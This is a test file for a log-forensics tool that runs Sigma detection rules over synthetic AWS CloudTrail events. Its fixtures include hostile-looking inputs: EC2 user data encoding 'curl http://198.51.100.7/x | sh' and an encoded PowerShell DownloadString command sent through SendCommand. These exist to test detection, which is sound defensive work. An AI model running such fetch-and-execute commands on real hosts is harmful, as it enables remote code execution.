/** A folder shaped like SigmaHQ's rules/cloud/aws: every rule loads, and finds what it should in CloudTrail's records. */
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, expect, test } from 'vitest';
import type { Case } from '#src/app/case.ts';
import { detectRules, type RuleFinding } from '#src/app/detect-rules.ts';
import { fakeEffects } from '../helpers/effects.ts';
import { exhibit, exhibitJson, ROOT } from '../helpers/exhibit.ts';
import { sampleCase } from '../helpers/sample-case.ts';
import { tempDir } from '../helpers/temp.ts';

const RULES = join(ROOT, 'test/sigma/fixtures/rules');

interface Call {
  readonly eventName: string;
  readonly minute?: number;
  readonly time?: string;
  readonly [member: string]: unknown;
}

const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string =>
  Buffer.from(text, encoding).toString('base64');

/** Calls, and the titles of rules that find each. */
const CALLS: readonly (readonly [Call, ...string[]])[] = [
  [{ eventName: 'CreateUser', eventSource: 'iam.amazonaws.com' }, 'Names In A List'],
  [{ eventName: 'CreateAccessKey', eventSource: 'iam.amazonaws.com' }, 'Names In A List'],
  [{ eventName: 'CreateUser', eventSource: 'sso.amazonaws.com' }],
  [
    {
      eventName: 'AuthorizeSecurityGroupIngress',
      requestParameters: {
        ipPermissions: {
          items: [
            { ipRanges: { items: [{ cidrIp: '10.0.0.0/8' }] } },
            { ipRanges: { items: [{ cidrIp: '192.0.2.1/32' }, { cidrIp: '0.0.0.0/0' }] } },
          ],
        },
      },
    },
    'Dotted Path Through Lists',
  ],
  [{ eventName: 'RunInstances', eventSource: 'ec2.amazonaws.com' }, 'Filters By Pattern'],
  [
    {
      eventName: 'RunInstances',
      eventSource: 'ec2.amazonaws.com',
      errorCode: 'UnauthorizedOperation',
    },
  ],
  [
    {
      eventName: 'StartInstances',
      eventSource: 'ec2.amazonaws.com',
      userAgent: 'HashiCorp Terraform/1.9',
    },
  ],
  [
    {
      eventName: 'StartInstances',
      eventSource: 'ec2.amazonaws.com',
      userIdentity: { type: 'AWSService', invokedBy: 'autoscaling.amazonaws.com' },
    },
  ],
  [{ eventName: 'GetUser', errorMessage: 'Failed Authentication' }, 'List Of Maps'],
  [
    {
      eventName: 'GetUser',
      userIdentity: { arn: 'arn:aws:sts::111122223333:assumed-role/Net-Admin/ann' },
    },
    'Regular Expression With Flags',
  ],
  [{ eventName: 'GetUser', userIdentity: { arn: 'arn:aws:iam::111122223333:user/net-admin' } }],
  [
    {
      eventName: 'PutUserPolicy',
      requestParameters: {
        policyDocument: '{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}',
      },
    },
    'All Of The Values',
  ],
  [
    {
      eventName: 'PutUserPolicy',
      requestParameters: { policyDocument: '{"Statement":[{"Effect":"Deny","Action":"*"}]}' },
    },
  ],
  [
    {
      eventName: 'UpdateLoginProfile',
      userIdentity: { userName: 'eve' },
      requestParameters: { userName: 'ann' },
    },
    'One Field Is Another',
  ],
  [
    {
      eventName: 'UpdateLoginProfile',
      userIdentity: { userName: 'Ann' },
      requestParameters: { userName: 'ann' },
    },
  ],
  [{ eventName: 'AssumeRole', requestParameters: { externalId: '' } }, 'Null And Empty'],
  [{ eventName: 'AssumeRole', requestParameters: { externalId: 'x' } }],
  [{ eventName: 'AssumeRole', requestParameters: {} }],
  [{ eventName: 'ListBuckets', userAgent: 'aws-cli Kali Linux' }, 'Keywords'],
  [{ eventName: 'GetCallerIdentity', userAgent: 'Boto3/1.40' }, 'Keywords'],
  [{ eventName: 'ListBuckets', userAgent: 'Boto3/1.40' }],
  [{ eventName: 'GetObject', sourceIPAddress: '198.51.100.7' }, 'Networks Of Both Families'],
  [{ eventName: 'GetObject', sourceIPAddress: '2001:db8::1' }],
  [{ eventName: 'GetObject', sourceIPAddress: '10.2.3.4' }],
  [{ eventName: 'PutObject', additionalEventData: { bytesTransferredOut: 1000000 } }, 'Numbers'],
  [{ eventName: 'PutObject', additionalEventData: { bytesTransferredOut: 5000000 } }],
  [
    {
      eventName: 'RunInstances',
      requestParameters: { userData: base64('#!/bin/sh\ncurl http://198.51.100.7/x | sh') },
    },
    'Encoded User Data',
  ],
  [{ eventName: 'RunInstances', requestParameters: { userData: base64('#!/bin/sh\necho') } }],
  [
    {
      eventName: 'SendCommand',
      requestParameters: {
        parameters: { commands: [`powershell /enc ${base64('x.DownloadString(1)', 'utf16le')}`] },
      },
    },
    'Wide Command In Base64',
    'Dashes Of Command Lines',
  ],
  [
    { eventName: 'ListUsers', awsRegion: 'eu-central-1', userIdentity: { userName: 'Admin' } },
    'Cased, And Not Equal',
  ],
  [{ eventName: 'ListUsers', awsRegion: 'eu-central-1', userIdentity: { userName: 'admin' } }],
  [{ eventName: 'ListUsers', awsRegion: 'EU-West-1', userIdentity: { userName: 'Admin' } }],
  [{ eventName: 'ConsoleLogin', time: '2026-01-01T03:00:00Z' }, 'Hours And Weeks'],
  [{ eventName: 'ConsoleLogin', time: '2026-01-01T06:00:00Z' }],
  [{ eventName: 'ConsoleLogin', time: '2026-01-08T03:00:00Z' }],
  [{ eventName: 'DeleteTrail' }, 'Several Conditions'],
  [{ eventName: 'StopLogging' }, 'Several Conditions'],
  [{ eventName: 'LookupEvents' }],
  [
    { eventName: 'HeadObject', requestParameters: { key: 'backup/2025-Q4.SQL' } },
    'Wildcards And Escapes',
  ],
  [{ eventName: 'HeadObject', requestParameters: { key: 'backup/25-q4.sql' } }],
  [
    { eventName: 'HeadObject', requestParameters: { key: 'literal*star' } },
    'Wildcards And Escapes',
  ],
  [{ eventName: 'HeadObject', requestParameters: { key: 'literalXstar' } }],
  [{ eventName: 'HeadObject', requestParameters: { key: 'C:\\Windows\\x' } }],
  [{ eventName: 'DeleteUser', userIdentity: { userName: 'Root-Ann' } }, 'Placeholder'],
  [{ eventName: 'DeleteUser', userIdentity: { userName: 'ann' } }],
  [{ eventName: 'PutBucketPolicy', userIdentity: { userName: 'ann' } }, 'Made Of Parts'],
  [{ eventName: 'PutBucketPolicy', userIdentity: { userName: 'deploy' } }],
  [{ eventName: 'PutBucketAcl', userIdentity: { userName: 'deploy' } }, 'Made Of Parts'],
  ...['bob', 'bob', 'bob', 'eve', 'eve'].map(
    (userName, at) =>
      [
        {
          eventName: 'ConsoleLogin',
          minute: at,
          userIdentity: { userName },
          responseElements: { ConsoleLogin: 'Failure' },
        },
        'List Of Maps',
        ...(userName === 'bob' ? ['Sign-In After Many Failures'] : []),
      ] as const,
  ),
  [
    {
      eventName: 'ConsoleLogin',
      minute: 8,
      userIdentity: { userName: 'bob' },
      responseElements: { ConsoleLogin: 'Success' },
    },
    'Sign-In After Many Failures',
  ],
  [
    {
      eventName: 'ConsoleLogin',
      minute: 9,
      userIdentity: { userName: 'eve' },
      responseElements: { ConsoleLogin: 'Success' },
    },
  ],
];

let target: Case;
let dir: string;
let placeholders: string;
let found: readonly RuleFinding[];

beforeAll(async () => {
  const files = await tempDir();
  const logs = join(files, 'logs');
  mkdirSync(logs);
  const records = CALLS.map(([{ minute = 0, time, ...call }], at) => ({
    eventVersion: '1.11',
    eventTime:
      time ??
      `2026-02-03T12:${String(minute).padStart(2, '0')}:${String(at % 60).padStart(2, '0')}Z`,
    eventSource: 'example.amazonaws.com',
    awsRegion: 'us-east-1',
    eventID: `e-${String(at)}`,
    eventType: 'AwsApiCall',
    recipientAccountId: '111122223333',
    ...call,
  }));
  writeFileSync(join(logs, '111122223333_CloudTrail_a.json'), JSON.stringify({ Records: records }));
  placeholders = join(files, 'placeholders.yml');
  writeFileSync(placeholders, 'Administrators:\n    - root-*\n    - admin\n');
  target = await sampleCase({ paths: [logs], workers: 1 });
  ({ dir } = target.paths);
  found = await detectRules(target, fakeEffects(), { rules: [RULES], placeholders }, (answer) => {
    expect(answer.rules).toEqual({ loaded: 25, skipped: [] });
    return [...answer.each(0)];
  });
});

test('each call is found by the rules that it is for, and by no other', () => {
  const titles = CALLS.map((): string[] => []);
  for (const { rule, rows } of found) {
    for (const row of rows) titles[(Number(row.split(':')[1]) % 2 ** 28) - 1]?.push(rule);
  }
  expect(titles.map((list, at) => [CALLS[at]?.[0].eventName, ...list.sort()])).toEqual(
    CALLS.map(([call, ...wanted]) => [call.eventName, ...wanted.sort()]),
  );
});

test('a finding says which fields matched, and a correlation which events', () => {
  const [login] = found.filter(({ kind }) => kind === 'correlation');
  expect(login).toMatchObject({
    rule: 'Sign-In After Many Failures',
    level: 'high',
    time: '2026-02-03T12:08:53Z',
    since: '2026-02-03T12:00:48Z',
    matched: [{ field: 'who', value: 'bob' }],
    copies: 0,
  });
  expect(login?.rows).toHaveLength(4);
  const admin = found.find(({ rule }) => rule.startsWith('Regular'));
  expect(admin?.matched).toEqual([
    { field: 'userIdentity.arn', value: 'arn:aws:sts::111122223333:assumed-role/Net-Admin/ann' },
  ]);
});

test('a placeholder without values, a log that exhibit has not: listed, and the others are asked', async () => {
  const files = await tempDir();
  const other = join(files, 'other.yml');
  const detection = '{a: {x: 1}, condition: a}';
  writeFileSync(
    other,
    `title: Elsewhere\nlogsource: {product: azure}\ndetection: ${detection}\n---\ntitle: No Such Field\nlogsource: {product: aws, service: vpcflow}\ndetection: ${detection}\n---\ntitle: Alone\ncorrelation: {type: event_count, rules: [nobody], timespan: 1h, condition: {gte: 1}}\n`,
  );
  const { status, json } = await exhibitJson(['detect', '--case', dir, '--rules', RULES, other]);
  const { rules } = json as {
    rules: { loaded: number; skipped: { name: string; reason: string }[] };
  };
  expect(status).toBe(0);
  expect(rules.loaded).toBe(24);
  expect(rules.skipped.map(({ name, reason }) => `${name}: ${reason}`)).toEqual([
    'Placeholder: the placeholder %Administrators% has no values',
    'Alone: it correlates rules that were not read: nobody',
    'Elsewhere: no log source of exhibit is product azure',
    'No Such Field: vpc_flow has no field x',
  ]);
});

test('levels, tags and --fail-on choose; every format has every finding', async () => {
  const ask = (
    ...words: string[]
  ): Promise<{ status: number | null; stdout: string; stderr: string }> =>
    exhibit(['detect', '--case', dir, '--rules', RULES, ...words]);
  const high = await ask('--level', 'high', '--fail-on', 'high', '--format', 'csv', '--quiet');
  expect(high.status).toBe(1);
  const [columns, ...rows] = high.stdout.trimEnd().split(/\r?\n/);
  expect(columns?.split(',').slice(0, 3)).toEqual(['time', 'level', 'rule']);
  expect(rows).toHaveLength(found.filter(({ level }) => level === 'high').length);
  const none = await ask('--attack', 'T1530', '--fail-on', 'low', '--json');
  expect(none.status).toBe(0);
  expect(JSON.parse(none.stdout)).toMatchObject({ findings: 0, by_rule: [], hits: [] });
  const lines = await ask('--format', 'jsonl', '--tag', 'attack.t1098', '--limit', '3');
  expect(lines.stdout.trimEnd().split('\n')).toHaveLength(3);
  expect(lines.stderr).toMatch(/3 shown: --limit 0 shows all/);
});

test('mistakes are pointed at, and what they kept from being asked is not called good', async () => {
  const files = await tempDir();
  const bad = join(files, 'bad.yml');
  writeFileSync(
    bad,
    'title: Bad\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n    a:\n        eventName|containz: x\n    condition: a\n',
  );
  const some = await exhibit(['detect', '--case', dir, '--rules', RULES, bad, '--quiet']);
  expect(some.status).toBe(3);
  expect(some.stderr).toContain(
    'bad.yml, line 5: Bad: line 5, column 9: expected a modifier of the Sigma specification, found "containz"',
  );
  const only = await exhibitJson(['detect', '--case', dir, '--rules', bad]);
  expect(only).toMatchObject({ status: 3, json: { error: { code: 'E_PATTERN' } } });
  expect(JSON.stringify(only.json)).toContain('bad.yml, line 5');
  const nothing = await exhibitJson(['detect', '--case', dir]);
  expect(nothing).toMatchObject({ status: 2, json: { error: { code: 'E_USAGE' } } });
});

test('rules and patterns are asked together', async () => {
  const files = await tempDir();
  const pattern = join(files, 'users.json');
  writeFileSync(pattern, JSON.stringify({ detail: { eventName: ['CreateUser'] } }));
  const { status, json } = await exhibitJson([
    'detect',
    '--case',
    dir,
    '--rules',
    RULES,
    '--pattern',
    pattern,
  ]);
  const {
    findings,
    hits,
    by_rule: rules,
  } = json as {
    findings: number;
    hits: { time: string; rule: string }[];
    by_rule: object[];
  };
  expect(status).toBe(0);
  expect(hits).toHaveLength(findings);
  expect(hits.filter(({ rule }) => rule === 'users')).toHaveLength(2);
  expect(hits.map(({ time }) => time)).toEqual(hits.map(({ time }) => time).toSorted());
  expect(rules).toHaveLength(22);
});

test('an answer is recorded with the text of its rules, and asked again without their files', async () => {
  const files = await tempDir();
  const file = join(files, 'one.yml');
  writeFileSync(
    file,
    'title: One\nlogsource: {product: aws, service: cloudtrail}\ndetection: {s: {eventName: CreateUser}, condition: s}\n',
  );
  const first = await exhibitJson(['detect', '--case', dir, '--rules', files, '--record']);
  const { findings, runs } = first.json as { findings: number; runs: string[] };
  expect([findings, runs.length]).toEqual([2, 1]);
  rmSync(file);
  const again = await exhibitJson(['query', 'replay', '--case', dir, runs[0] ?? '']);
  expect(again).toMatchObject({ status: 0, json: { verdict: 'match' } });
});
